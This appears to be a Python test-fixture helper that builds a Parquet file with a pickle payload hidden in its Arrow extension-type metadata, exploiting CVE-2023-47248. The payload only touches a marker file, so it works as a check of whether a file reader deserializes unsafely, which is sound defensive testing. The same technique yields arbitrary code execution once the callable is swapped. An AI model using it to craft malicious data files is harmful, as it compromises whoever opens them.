"""Files that would run a program or stop one: made here, handed to whatever reads files."""

from __future__ import annotations

import pickle
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


class _Touch:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def parquet_with_program(path: Path, marker: Path) -> Path:
    """A Parquet file that makes `marker` where Arrow reads its schema unguarded (CVE-2023-47248)."""
    metadata = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": pickle.dumps(_Touch(marker), protocol=0),
    }
    schema = pa.schema([pa.field("x", pa.int64(), metadata=metadata), pa.field("y", pa.int64())])
    pq.write_table(pa.table([pa.array(range(40)), pa.array([0, 1] * 20)], schema=schema), path)
    return path
